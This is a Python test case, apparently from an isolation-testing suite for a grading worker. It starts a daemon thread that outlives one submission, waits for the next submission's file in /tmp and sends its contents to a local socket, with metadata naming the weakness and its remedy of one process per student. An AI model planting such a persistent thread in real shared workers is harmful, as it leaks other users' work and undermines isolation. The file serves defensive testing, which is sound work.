# SPDX-License-Identifier: MIT
"""Goal:  the next student's work.
Means: where students run inside the worker, a thread does not end with its student. It is no
       process: nothing that kills processes can end it without ending the worker.
"""

import socket
import threading
import time

from attack import DONE, attempting, denied, honest

LIFE = 5


def watch(path, port):
    """Wait for the next student's file and send it on."""
    until = time.monotonic() + LIFE
    while time.monotonic() < until:
        try:
            with open(path, "rb") as file:
                text = file.read()
        except OSError:
            text = b""
        if text:
            with socket.create_connection(("127.0.0.1", port)) as sink:
                sink.sendall(text)
            return
        time.sleep(0.001)


def run(brief):
    attempting()
    try:
        threading.Thread(target=watch, args=(f"/tmp/{brief.name}.txt", brief.sink),
                         daemon=True).start()
    except RuntimeError as why:
        return denied("a thread", why)
    return DONE


def victim(brief):
    claim = honest(brief)
    time.sleep(0.3)  # at work
    return claim


ATTACK = {
    "effect": "the next student's file is read by the last one's thread",
    "means": "a daemon thread in a worker that runs students inside itself",
    "oracle": "secret:victim",
    "scene": "before-victim",
    "control": "in-process",
    "id": "PERS-04",
    "attack_id": "T1543, CWE-459, CWE-653",
    "remedy": "a process for each student",
    "refs": ["Python: threading, Thread.daemon"],
    "run": run,
    "victim": victim,
}
